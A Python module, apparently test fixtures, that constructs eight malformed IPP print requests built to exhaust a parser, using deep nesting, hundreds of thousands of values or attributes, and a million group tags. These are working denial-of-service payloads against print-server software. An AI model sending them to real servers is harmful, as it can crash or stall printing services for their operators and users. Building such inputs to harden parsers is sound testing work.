"""IPP requests that say little and want much: nested, repeated and endless attributes."""

import struct

HEAD = b"\x02\x00\x00\x0b\x00\x00\x00\x01"


def item(tag: int, name: str, value: bytes) -> bytes:
    """Return an attribute, or with an empty name a further value (RFC 8010 3.1.4 and 3.1.5)."""
    octets = name.encode()
    return struct.pack(">BH", tag, len(octets)) + octets + struct.pack(">H", len(value)) + value


BOMBS = {
    "20,000 nested collections": HEAD
    + b"\x01"
    + item(0x34, "a", b"")
    + (item(0x4A, "", b"m") + item(0x34, "", b"")) * 20_000,
    "170,000 values": HEAD + b"\x01" + item(0x44, "a", b"") + item(0x44, "", b"") * 170_000,
    "80,000 attributes": HEAD
    + b"\x01"
    + b"".join(item(0x44, f"{number:05}", b"") for number in range(80_000)),
    "170,000 empty collections": HEAD
    + b"\x01"
    + item(0x34, "a", b"")
    + item(0x37, "", b"")
    + (item(0x34, "", b"") + item(0x37, "", b"")) * 85_000,
    "60,000 members": HEAD
    + b"\x01"
    + item(0x34, "a", b"")
    + b"".join(item(0x4A, "", b"%05d" % number) + item(0x44, "", b"") for number in range(60_000)),
    "a million groups": HEAD + b"\x01" * 1_000_000,
    "1 MiB attribute group": HEAD
    + b"\x01"
    + b"".join(item(0x41, f"{number:04}", b"x" * 100) for number in range(9_600)),
    "endless value": HEAD + b"\x01" + (item(0x30, "a", bytes(65_535)) + item(0x30, "", bytes(65_535)) * 20),
}
